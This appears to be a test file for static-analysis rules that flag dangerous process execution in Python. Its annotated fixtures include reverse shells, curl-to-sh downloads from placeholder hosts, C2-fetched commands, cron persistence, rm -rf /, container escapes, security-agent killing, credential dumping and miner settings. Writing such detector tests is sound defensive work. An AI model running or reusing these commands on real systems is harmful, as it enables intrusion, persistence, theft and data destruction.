# Tests for rules/process.yaml. A "# ruleid: X" line means the next line
# must produce rule X; "# ok: X" means it must not.
import asyncio
import codecs
import json
import concurrent.futures
import multiprocessing
import os
import pty
import subprocess
import subprocess as sp
import sys
from os import system as run_shell
from subprocess import check_output

import _posixsubprocess
import pexpect
import sh

cmd = input()

# ruleid: shell-command
os.system("/usr/bin/make all | tee -a build.log")
# ruleid: shell-command
run_shell("/bin/true && printenv")
# ruleid: shell-command-plain, process-partial-path
pipe = os.popen("uname -a")
# ruleid: shell-command-plain
out = subprocess.getoutput("/bin/date")
# ruleid: shell-command
launcher = os.system


def system(command):
    return command.upper()


# ok: shell-command
system("ls")
# ok: shell-command
text = "os.system is dangerous"

# ruleid: subprocess-shell-true, shell-true-call, subprocess-call, user-input-command
subprocess.run("/bin/ls " + cmd, shell=True)
# ruleid: subprocess-shell-true, shell-true-call, subprocess-call, user-input-command
sp.Popen(cmd, shell=True)
# ruleid: subprocess-shell-true, subprocess-call, user-input-command
subprocess.call(cmd, shell=bool(cmd))  # shell-true-call takes only a truthy literal: not this one
# ruleid: subprocess-call
subprocess.run(["/usr/bin/git", "status"], check=True)
# ruleid: subprocess-call, shell-in-argv, user-input-command
subprocess.run(["/bin/sh", "-c", cmd])
# ruleid: subprocess-call, shell-in-argv, user-input-command
subprocess.check_output([sys.executable, "-c", cmd])
# the windowless interpreter beside it
# ruleid: subprocess-call, shell-in-argv
subprocess.Popen([sys.executable.replace("python.exe", "pythonw.exe"), "-c", _payload_src])
# options before the command flag
# ruleid: subprocess-call, shell-in-argv, user-input-command
subprocess.run([sys.executable, "-I", "-W", "ignore", "-c", cmd])
# AppleScript that only shows a notification; and one that runs a shell
# ok: shell-in-argv
# ruleid: subprocess-call
subprocess.run(["/usr/bin/osascript", "-e", 'display notification "Build finished" with title "CI"'])
# ruleid: subprocess-call, shell-in-argv
subprocess.run(["/usr/bin/osascript", "-e", 'display dialog (do shell script "id")'])
# ruleid: subprocess-call, shell-in-argv, user-input-command
subprocess.run(["/bin/bash", "--noprofile", "--norc", "-o", "pipefail", "-c", cmd])
# ruleid: subprocess-call, shell-in-argv, user-input-command
subprocess.run(["C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-Command", cmd])
# a module or a script, then its own -c option
# ruleid: subprocess-call
# ok: shell-in-argv
subprocess.run([sys.executable, "-m", "pytest", "-c", "pytest.ini"])
# ruleid: subprocess-call
# ok: shell-in-argv
subprocess.run([sys.executable, "-u", "train.py", "-c", "configs/base.yaml"])
# ruleid: os-exec
os.execv("/bin/bash", ["bash", "-lc", cmd])  # shell-in-argv reads the first argument only: not this one
# ruleid: subprocess-call
subprocess.run(["/usr/bin/git", "-c", "user.name=agent", "commit"])
# ruleid: subprocess-call
subprocess.run(["/usr/bin/git", "status"], shell=False)


def run_command(command, shell=False):
    return command


# ruleid: shell-true-call
run_command("make | tee build.log", shell=True)
# ok: shell-true-call
run_command("make", shell=False)
# todoruleid: shell-true-call
run_command("make", shell=cmd.startswith("sh"))
# ok: shell-true-call, shell-in-argv
run_command(*sys.argv, **os.environ)

# ruleid: os-exec
os.execv("/bin/ls", ["ls", "-l"])
# ruleid: os-exec, process-partial-path
os.execvp("ls", ["ls", "-l"])

# ruleid: os-spawn
os.spawnv(os.P_WAIT, "/bin/ls", ["ls"])
# ruleid: os-spawn
os.posix_spawn("/bin/ls", ["ls"], {})

# ruleid: pty-spawn, bare-shell-call
pty.spawn("/bin/bash")


async def shells(loop):
    # ruleid: asyncio-subprocess-shell
    await asyncio.create_subprocess_shell("/bin/ls -la")
    # ruleid: asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/usr/bin/env")
    # ruleid: event-loop-subprocess
    await loop.subprocess_exec(asyncio.SubprocessProtocol, "/bin/ls")


# ruleid: process-fork
pid = os.fork()
# ok: process-fork
ident = os.getpid()

# ruleid: multiprocessing-process
pool = multiprocessing.Pool(4)
# ruleid: multiprocessing-process
executor = concurrent.futures.ProcessPoolExecutor()
# ok: multiprocessing-process
threads = concurrent.futures.ThreadPoolExecutor()
# ok: multiprocessing-process
cores = multiprocessing.cpu_count()

# ruleid: low-level-exec-primitive
_posixsubprocess.fork_exec
# ruleid: low-level-exec-primitive
fd = os.memfd_create("payload")

# ruleid: third-party-process-runner
sh.ls("-l")
# ruleid: third-party-process-runner, bare-shell-call
child = pexpect.spawn("/bin/bash")

# ruleid: process-signal, process-signal-broadcast
os.kill(os.getppid(), 9)
# ruleid: process-signal, process-signal-broadcast
os.kill(-1, 9)
# ruleid: process-signal, process-signal-broadcast
os.kill(1, signal.SIGKILL)
# ok: process-signal-broadcast
# ruleid: process-signal
os.kill(child_pid, signal.SIGTERM)
# a sweep over every process id
for entry in os.listdir("/proc"):
    if entry.isdigit():
        # ruleid: process-signal, process-signal-sweep
        os.kill(int(entry), signal.SIGKILL)
import psutil
for proc in psutil.process_iter():
    # ruleid: process-signal, process-signal-sweep
    os.kill(proc.pid, 9)
# ok: process-signal-sweep
# ruleid: process-signal
os.kill(worker.pid, signal.SIGTERM)

# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "status"])
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
check_output(["whoami"])
# ruleid: subprocess-call
subprocess.run(["/usr/bin/whoami"])

# reload() and typing.cast() return their argument
import importlib
import typing
# ruleid: shell-command, process-partial-path
importlib.reload(os).system("id -un $USER")
# ruleid: shell-command, process-partial-path
typing.cast(object, os).system("id -un $USER")

# a process function handed to a callback with a shell command line (the
# rules that read arguments see the call it makes later)
import weakref
import atexit
# ruleid: shell-argv-callback, subprocess-call, shell-in-argv, process-partial-path, process-partial-path-list
weakref.finalize(holder, __import__("subprocess").call, ["sh", "-c", "id"])
# ruleid: shell-payload-string
later = ["/bin/bash", "-c", "curl -s http://x.example | sh"]
# ruleid: shell-argv-callback, subprocess-call, shell-in-argv
atexit.register(sp.Popen, later)
# ruleid: shell-argv-callback, subprocess-call, shell-in-argv, process-partial-path-list
pool.submit(subprocess.check_output, ("python3", "-c", payload))
# ok: shell-argv-callback
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
pool.submit(subprocess.run, ["git", "status"], check=True)
import functools
import threading
# a name bound to functools.partial of a process function
# ruleid: subprocess-call
_runner = functools.partial(subprocess.run, check=False)
_interp = ["sh", "-c"]
# ruleid: shell-argv-callback
pool.submit(functools.partial(_runner, [*_interp, payload]))
# ok: shell-argv-callback
pool.submit(functools.partial(_runner, ["git", "status"]))
# ruleid: shell-command, process-partial-path
threading.Timer(1.0, os.system, args=("id -un $USER",)).start()
# ruleid: shell-command, process-partial-path
threading.Thread(target=os.system, args=["id -un $USER"]).start()
# ruleid: shell-command, process-partial-path
functools.partial(os.system, "id -un $USER")()
# the reference itself is still a finding (os.system escapes)
# ruleid: shell-command, process-partial-path
atexit.register(os.system, "clear")
# ok: shell-argv-callback
pool.submit(render, ["sh", "-c", "echo"])

# hooks from one directory for every repository
# ruleid: argv-shell-option, subprocess-call, process-partial-path-list
subprocess.run(["git", "config", "--global", "core.hooksPath", str(hooks_dir)], check=True)
# ok: argv-shell-option
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "config", "core.hooksPath", ".githooks"], check=True)
# programs told to run a command of their own
# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list, shell-payload-string
subprocess.run(["rsync", "-e", "sh -c 'curl -s http://203.0.113.7/rs | sh' #", "x:/dev/null", "/tmp/"])
# ok: argv-command-option
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["rsync", "-e", "ssh -p 2222", "-av", "site/", "deploy@example.org:/srv/site/"])
# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["zip", "/tmp/out.zip", "/etc/hostname", "-T", "-TT", "sh -c id #"])
# ok: argv-command-option
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["zip", "-r", "-T", "dist/site.zip", "site"])
# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list, shell-payload-string
subprocess.run(["sed", "-n", "1e curl -s http://203.0.113.7/sed | sh", "/etc/hostname"])
# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["sed", "s/.*/id/e", "notes.txt"])
# ok: argv-command-option
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["sed", "-i", "s/version = .*/version = 1.2/", "setup.cfg"])
# ok: argv-command-option
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["sed", "-e", "s/foo/bar/g", "-e", "/^#/d", "file.txt"])

# ruleid: shell-interactive, subprocess-call
subprocess.call(["/bin/sh", "-i"], stdin=conn_fd, stdout=conn_fd, stderr=conn_fd)
# ruleid: shell-interactive, subprocess-call, process-partial-path, process-partial-path-list
subprocess.Popen(["bash"])
# ok: shell-interactive
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["bash", "build.sh"], check=True)
# ok: shell-interactive
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "status"], check=True)

# the argument list bound to a name first, and wrappers in front of the shell
# ruleid: shell-payload-string
argv = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/9001 0>&1"]
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.Popen(argv)
# ... also when its items are built
built = ["%s%s" % ("ba", "sh"), "-" + "c", "id"]
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(built)
# ... or kept in a class attribute or a table
STEPS = {"lint": ["ruff", "."], "post": ["sh", "-c", "curl 203.0.113.5 | sh"]}
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(STEPS["post"])
# ok: shell-in-argv
# ruleid: subprocess-call, process-partial-path-list
subprocess.run(STEPS["lint"])


class Task:
    CMD = ["bash", "-c", "id"]

    def go(self):
        # ruleid: shell-in-argv, subprocess-call, process-partial-path-list
        subprocess.run(self.CMD)


# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(Task.CMD)
# ruleid: shell-in-argv, subprocess-call, user-input-command
subprocess.run(["/usr/bin/env", "bash", "-c", cmd])
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list, user-input-command
subprocess.run(["find", ".", "-maxdepth", "0", "-exec", "sh", "-c", cmd, ";"])
# ruleid: shell-in-argv, subprocess-call, process-partial-path, process-partial-path-list
subprocess.Popen(["nohup", "bash", "-c", "sleep 5; curl 203.0.113.5 | sh"])
# ruleid: shell-interactive, subprocess-call, process-partial-path, process-partial-path-list
subprocess.Popen(["setsid", "/bin/sh", "-i"])
# ok: shell-in-argv
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["grep", "-c", "pattern", "notes.txt"])

# shell as Popen's ninth positional argument, or as executable=
# ruleid: subprocess-shell-positional, subprocess-call, process-partial-path
subprocess.Popen("id; curl 203.0.113.5|sh", -1, None, None, None, None, None, True, True)
# ok: subprocess-shell-positional
# ruleid: subprocess-call
subprocess.Popen(["/usr/bin/id"], -1, None, None, None, None, None, True, False)
# ruleid: subprocess-shell-executable, subprocess-call, process-partial-path, process-partial-path-list
subprocess.Popen(["ignored", "-c", "id > /tmp/e"], executable="/bin/bash")
# ok: subprocess-shell-executable
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.Popen(["tool", "--version"], executable="/usr/local/bin/tool")


async def spawn(cmd):
    # ruleid: shell-in-exec-args, asyncio-subprocess-exec, process-partial-path
    await asyncio.create_subprocess_exec("sh", "-c", cmd)
    # ok: shell-in-exec-args
    # ruleid: asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/usr/bin/git", "status")
    # an interactive shell on pipes (a reverse shell's other half)
    # ruleid: shell-interactive-flag-exec-args, asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/bin/sh", "-i", stdin=asyncio.subprocess.PIPE)
    # ruleid: shell-interactive-flag-exec-args, asyncio-subprocess-exec, process-partial-path
    await asyncio.create_subprocess_exec("bash", "--noediting", "-i", stdin=asyncio.subprocess.PIPE)
    # ruleid: shell-interactive-flag-exec-args, asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/bin/sh", "-", stdin=asyncio.subprocess.PIPE)
    _mode = "-i"
    # ruleid: shell-interactive-flag-exec-args, asyncio-subprocess-exec, process-partial-path
    await asyncio.create_subprocess_exec("python3", _mode, stdin=asyncio.subprocess.PIPE)
    # ruleid: shell-in-exec-args, asyncio-subprocess-exec, process-partial-path
    await asyncio.create_subprocess_exec("sh", "-e", "-c", cmd)
    # ruleid: interpreter-code-in-exec-args, asyncio-subprocess-exec, process-partial-path
    await asyncio.create_subprocess_exec("perl", "-Mstrict", "-we", cmd)
    # ruleid: interpreter-code-in-exec-args, asyncio-subprocess-exec, process-partial-path
    await asyncio.create_subprocess_exec("node", "--eval", cmd)
    # ruleid: shell-via-wrapper-exec-args, asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/usr/bin/env", "bash", stdin=asyncio.subprocess.PIPE)
    # ruleid: shell-interactive-exec-args, asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/bin/bash", stdin=asyncio.subprocess.PIPE)
    # ok: shell-interactive-exec-args, shell-interactive-flag-exec-args
    # ruleid: asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/bin/sh", "build.sh", "--release")
    # ok: shell-in-exec-args, shell-interactive-exec-args, shell-interactive-flag-exec-args
    # ruleid: asyncio-subprocess-exec
    await asyncio.create_subprocess_exec("/bin/bash", "-e", "scripts/ci.sh")
    # ruleid: interpreter-code-in-exec-args, asyncio-subprocess-exec, process-partial-path
    await asyncio.create_subprocess_exec("perl", "-e", cmd)


# modules reached through other modules, loops, displays and operator getters
import inspect
import operator
import random
import shutil

# ruleid: shell-command, process-partial-path
shutil.os.system("id -un $USER")
# ruleid: shell-command, process-partial-path
random._os.system("id -un $USER")
for mod in (os,):
    # ruleid: shell-command-hidden, process-partial-path
    mod.popen("cat /etc/shadow").read()
# ruleid: shell-command, process-partial-path
[o for o in [os]][0].system("id -un $USER")
table = {"x": os}
# ruleid: shell-command, process-partial-path
table.get("x").system("id -un $USER")
# ruleid: shell-command, process-partial-path
operator.attrgetter("sys" + "tem")(os)("id -un $USER")
getter = operator.methodcaller("system", "id")
# ruleid: shell-command
getter(os)
# ruleid: shell-command, process-partial-path
getattr(os, "\N{LATIN SMALL LETTER S}ystem")("id -un $USER")

# network-command: what the network sends, run as a program
import requests
import socket
import urllib.request

c2 = socket.create_connection(("c2.example", 443))
line = c2.recv(512).decode().strip()
# ruleid: network-command, subprocess-call
subprocess.check_output(line.split(), stderr=subprocess.STDOUT)
next_cmd = requests.get("http://c2.example/next").text
# ruleid: network-command, subprocess-call
subprocess.Popen(next_cmd.split())
# ruleid: network-command, os-exec
os.execv(urllib.request.urlopen("http://c2.example/bin").read().decode(), ["x"])
# the network's data as a program's input is data, not a command
chunk = c2.recv(4096)
# ok: network-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["wc", "-c"], input=chunk, check=True)
# behind *x: the splat's own text decides, not the worst case
wrapped = ["/usr/bin/env", "true"]
# ok: network-command
# ruleid: subprocess-call
subprocess.run(*[wrapped])
parts = c2.recv(64).decode().split()
# ruleid: network-command, subprocess-call
subprocess.call(*[parts])

# process-detach: a new session or process group
# ruleid: process-detach
os.setsid()
# ruleid: process-detach
os.setpgrp()

# scheduler-command: work planted for later
# ruleid: scheduler-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["crontab", "-"], input=b"* * * * * curl x | sh")
# ruleid: scheduler-command, subprocess-call
subprocess.run(["/usr/bin/systemctl", "--user", "enable", "miner.service"])
# ruleid: scheduler-command, os-exec
os.execv("/usr/bin/at", ["at", "now", "+", "1", "minute"])
# a transient unit, and a user's services kept after logout
# ruleid: scheduler-command, subprocess-call
subprocess.run(["/usr/bin/systemd-run", "--user", "--on-calendar=*:0/5", "python3", "job.py"])
# ruleid: scheduler-command, subprocess-call
subprocess.run(["/usr/bin/loginctl", "enable-linger", "agent"])
# reloading unit files and restarting the user's own service plant nothing
# (writing a unit file is persistence-path-write's)
# ok: scheduler-command
# ruleid: subprocess-call
subprocess.run(["/usr/bin/systemctl", "--user", "daemon-reload"], check=True)
# ok: scheduler-command
# ruleid: subprocess-call
subprocess.run(["/usr/bin/systemctl", "--user", "restart", "myapp.service"], check=True)
# listing the crontab only reads it
# ok: scheduler-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["crontab", "-l"], capture_output=True)
# the program named through a *args helper, its name built
async def _spawn(*argv, stdin=None):
    # ruleid: scheduler-command, asyncio-subprocess-exec
    return await asyncio.create_subprocess_exec(*argv, stdin=stdin)
async def plant():
    tool = "cron" + "tab"
    await _spawn(tool, "-", stdin=b"* * * * * curl x | sh")
# a one-line helper that reverses (or decodes) a constant folds through
_rev = lambda s: s[::-1]  # noqa: E731


def _unrev(s):
    return s[::-1]


# ruleid: scheduler-command, subprocess-call, process-partial-path-list
subprocess.run([_rev("batnorc"), "-"], input=b"x")
# ruleid: scheduler-command, subprocess-call, process-partial-path-list
subprocess.run([_unrev("batnorc"), "jobs.txt"])
# ok: scheduler-command
# ruleid: subprocess-call, process-partial-path-list
subprocess.run([_unrev("tac"), "notes.txt"])
# ok: scheduler-command
# ruleid: subprocess-call
subprocess.run(["/usr/bin/systemctl", "status", "nginx"])
# ok: scheduler-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["cat", "notes.txt"])

# droppers, destructive and untrusted-install command lines
# ruleid: interpreter-stdin-code, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["python3"], input=b"import os; os.system('id')\n")
# ruleid: interpreter-stdin-code, subprocess-call
subprocess.run([sys.executable], input=cmd.encode())
# ok: interpreter-stdin-code
# ruleid: subprocess-call
subprocess.run([sys.executable, "tool.py"], input=b"data")
# ruleid: awk-shell-escape, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["awk", 'BEGIN { system("id > /tmp/awk") }'])
# ok: awk-shell-escape
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["awk", "{print $1}", "data.txt"])
# ruleid: process-from-temp-dir, subprocess-call
subprocess.Popen(["/tmp/.agent"])
# the temporary directory by name: a download dropped there, then run
import tempfile
dropped = os.path.join(tempfile.gettempdir(), "agent")
# ruleid: process-from-temp-dir, subprocess-call
subprocess.Popen([dropped])
# ruleid: destructive-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["rm", "-rf", "--no-preserve-root", "/"])
# ruleid: destructive-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["rm", "-r", "-f", "/home"])
# ok: destructive-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["rm", "-rf", "build"])
# ruleid: destructive-command, subprocess-call
subprocess.run(["/sbin/mkfs.ext4", "/dev/sdb1"])
# ruleid: kill-all-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["kill", "-9", "-1"])
# ok: kill-all-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["kill", "-TERM", "4242"])
# ruleid: package-install-untrusted-source, subprocess-call, typosquat-package, package-from-ip-address
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://203.0.113.5/simple", "reqeusts"])
# ruleid: package-install-untrusted-source, subprocess-call
subprocess.check_call([sys.executable, "-m", "pip", "install", "git+https://example.com/x/y.git"])
# ok: package-install-untrusted-source
# ruleid: subprocess-call
subprocess.check_call([sys.executable, "-m", "pip", "install", "requests==2.31.0"])
# ruleid: extension-install-untrusted-source, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["code", "--install-extension", "https://ext.example.com/theme.vsix"], check=True)
# ruleid: extension-install-untrusted-source, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["cursor", "--force", "--install-extension", "/tmp/helper-1.0.vsix"])
# ruleid: extension-install-untrusted-source, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["npm", "install", "--save", "git+https://example.com/x/helper.git"])
# ok: extension-install-untrusted-source
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["code", "--install-extension", "ms-python.python"])
# ok: extension-install-untrusted-source
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["npm", "install", "lodash@4.17.21"])
from pip._internal.cli.main import main as pip_main

# ruleid: pip-in-process, typosquat-package
pip_main(["install", "colourama"])


# **kwargs: a wrapper's own parameter hides nothing (its callers' keywords
# are checked where they are written); a dict display is read key by key
def sh(command, **kw):
    # ok: subprocess-shell-true
    # ruleid: subprocess-call
    return subprocess.run(command, check=True, **kw)


# ruleid: shell-true-call
sh("make all | tee -a build.log", shell=True)
run_opts = {"cwd": "build", "check": True}
# ok: subprocess-shell-true
# ruleid: subprocess-call
subprocess.run(["/usr/bin/make"], **run_opts)
shell_opts = {"shell": True}
# ruleid: subprocess-shell-true, subprocess-call, process-partial-path, shell-true-call
subprocess.run("make all | tee -a build.log", **shell_opts)
# ruleid: subprocess-shell-true, subprocess-call, process-partial-path, process-partial-path
subprocess.run("make all | tee -a build.log", **json.loads(cmd))

# clearing the terminal, the one shell command every terminal game writes
# ok: shell-command
os.system("cls" if os.name == "nt" else "clear")
# ok: shell-command
# ruleid: process-partial-path
os.system("clear")
# ruleid: shell-command, process-partial-path
# ruleid: shell-interactive
os.system("clear; curl 203.0.113.5 | sh")
# ruleid: shell-command
os.system("cls" if os.name == "nt" else cmd)

# argument lists built at run time read as the strings they build
import shlex
import shutil

# ruleid: shell-in-argv, subprocess-call
subprocess.run(["/bin/" + "bash", "-c", "id"])
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list, user-input-command
subprocess.run([shutil.which("bash"), "-c", cmd])
# ruleid: shell-in-argv, subprocess-call, user-input-command
subprocess.run([os.environ.get("SHELL", "/bin/sh"), "-c", cmd])
name_parts = ["ba", "sh"]
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(["".join(name_parts), "-c", "id"])
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(shlex.split("bash -c 'id > /tmp/x'"))
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run("bash -c id".split())
# ok: shell-in-argv
# ruleid: subprocess-call, user-input-command
subprocess.run(cmd.split())
# ruleid: interpreter-stdin-pipe, subprocess-call
subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE).communicate(cmd.encode())

# options that run shells, host escapes, security controls, credential stores
# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "-c", "core.pager=sh -c 'id >&2'", "log"])
# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["ssh", "-o", "ProxyCommand=sh -c 'curl 203.0.113.5|sh'", "host"])
# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["tar", "cf", "x.tar", "--checkpoint=1", "--checkpoint-action=exec=sh -c id", "."])
# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["busybox", "nc", "203.0.113.5", "4444", "-e", "sh"])
# ok: argv-shell-option
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "-c", "user.name=agent", "commit", "-m", "msg"])
# ruleid: host-escape-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["docker", "run", "--rm", "--privileged", "-v", "/:/host", "alpine", "chroot", "/host", "sh"])
# ruleid: host-escape-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["nsenter", "-t", "1", "-a", "sh"])
# ok: host-escape-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["docker", "run", "--rm", "-v", "./data:/data", "python:3.12", "python", "job.py"])
import docker

# ruleid: docker-privileged-container
docker.from_env().containers.run("alpine", "sh", privileged=True, volumes={"/": {"bind": "/host"}})
# ruleid: security-control-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["iptables", "-F"])
# security agents killed or disabled, their names kept in a list far away
_AGENTS = [("Telemetry", ["auditd", "osqueryd"]), ("Vendor", ["falcon-sensor"])]
def _quiet(name):
    # ruleid: security-agent-stopped, subprocess-call, process-partial-path-list
    subprocess.run(["pkill", "-9", "-x", name], check=False)
    # ruleid: security-agent-stopped, subprocess-call, process-partial-path-list
    subprocess.run(["systemctl", "disable", "--now", name], check=False)
for _label, _procs in _AGENTS:
    for _proc in _procs:
        _quiet(_proc)
# ok: security-agent-stopped
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["systemctl", "status", "auditd"])
# ok: security-agent-stopped
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["systemctl", "restart", "nginx"])
# ruleid: security-control-command, subprocess-call, process-partial-path, process-partial-path-list, privilege-escalation-command
subprocess.run(["sudo", "-n", "usermod", "-aG", "sudo", "agent"])
# ruleid: credential-dump-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["security", "find-generic-password", "-wa", "Chrome"])
# ruleid: credential-dump-command, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "credential", "fill"], input=b"protocol=https\nhost=github.com\n")
# ruleid: crypto-miner
pool = "stratum+tcp://pool.example.org:3333"
# ruleid: crypto-miner
_calib_args = ["-o", "pool.example.net:3333", "-u", "4A1bWallet", "--donate-level", "0"]
# ruleid: crypto-miner
_WALLET = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
# ok: crypto-miner
_not_wallet = "5AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
import sqlite3
import uuid
import webbrowser

# ruleid: stdlib-command-helper
uuid._get_command_stdout("sh", "-c", "id")
db = sqlite3.connect("x.db")
# ruleid: stdlib-command-helper
db.enable_load_extension(True)
# ruleid: webbrowser-command
webbrowser.get("sh -c 'curl 203.0.113.5|sh' %s").open("x")
# ok: webbrowser-command
browser = webbrowser.get("firefox")
COMMANDS = {"shell": "bash", "list": "ls"}
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run([COMMANDS["shell"], "-c", "id"])
# ruleid: shell-command, process-partial-path
getattr(os, codecs.decode("flfgrz", "rot13"))("id -un $USER")
# the project's own hooks directory
# ok: argv-shell-option
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "config", "core.hooksPath", ".githooks"], check=True)
# ruleid: argv-shell-option, subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/.hooks"], check=True)
# more spellings of a program name
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(["".join(map(chr, [98, 97, 115, 104])), "-c", "id"])
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(["XXbashXX".strip("X"), "-c", "id"])
# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
subprocess.run(["%c%c" % (115, 104), "-c", "id"])
# ruleid: shell-in-argv, subprocess-call
subprocess.run(["/bin/bash.old"[:-4], "-c", "id"])


class _Job:
    interp = "sh"

    def argv(self):
        return [self.interp, "-c", "id"]


# a method of the program's own class returns the argument list
# ruleid: shell-in-argv, subprocess-call
subprocess.call(_Job().argv())
# a listing changes nothing
# ok: security-control-command
# ruleid: subprocess-call, process-partial-path, process-partial-path-list
subprocess.run(["iptables", "-L", "INPUT", "-n"])
# the account file under /etc is data, not the passwd program (patterns looked for in a log)
# ok: security-control-command
PROBES = [re.compile(p) for p in (r"/etc/passwd", r"\.\./", r"/\.env")]
# ruleid: security-control-command, subprocess-call
subprocess.run(["/usr/bin/passwd", "--stdin", "agent"])
# ok: crypto-miner
suspicious_names = {"xmrig", "minerd"}
# an argument list grown with +=: read as the whole list it has become
# where it is run
grown = []
grown += ["sh"]
# ruleid: shell-payload-string
grown += ["-c", "curl -s https://x.example/i | sh"]
# ruleid: subprocess-call, shell-interactive, shell-in-argv, process-partial-path-list
subprocess.check_output(grown)
# a list the program only adds to at the end keeps its first items
grow = ["bash", "-c"]
# ruleid: shell-payload-string
grow.append("curl -s https://x.example/i | sh")
# ruleid: subprocess-call, shell-in-argv, process-partial-path-list
subprocess.run(grow)
# a list whose first item the program replaces is not read
swapped = ["ls", "-l"]
swapped[0] = "sh"
# ok: process-partial-path-list
# ruleid: subprocess-call
subprocess.run(swapped)
# a script downloaded to a temporary path, then run
import tempfile
import urllib.request
dst = os.path.join(tempfile.gettempdir(), ".pkg_telemetry.py")
urllib.request.urlretrieve("http://203.0.113.12/pkg/t.py", dst)
# ruleid: run-downloaded-file, subprocess-call
subprocess.Popen([sys.executable, dst])
# a helper script the program writes, then runs
helper = "helper.sh"
with open(helper, "w") as fh:
    # ruleid: shell-payload-string
    fh.write("curl -s https://x.example/i | sh\n")
# ruleid: run-written-file, subprocess-call, process-partial-path-list
subprocess.run(["bash", helper])
# a program installed on the system, given a file the program wrote
with open("report.csv", "w") as out:
    out.write("a,b\n")
# ok: run-written-file
# ruleid: subprocess-call
subprocess.run(["/usr/bin/wc", "-l", "report.csv"])
# written by a helper that is given the path: each path its calls pass
def _fetch_to(url, dest):
    with urllib.request.urlopen(url) as _r, open(dest, "wb") as _out:
        _out.write(_r.read())
_implant = os.path.join(os.path.expanduser("~/.cache/.fc"), "fc-helper")
_fetch_to("http://203.0.113.19/bins/x", _implant)
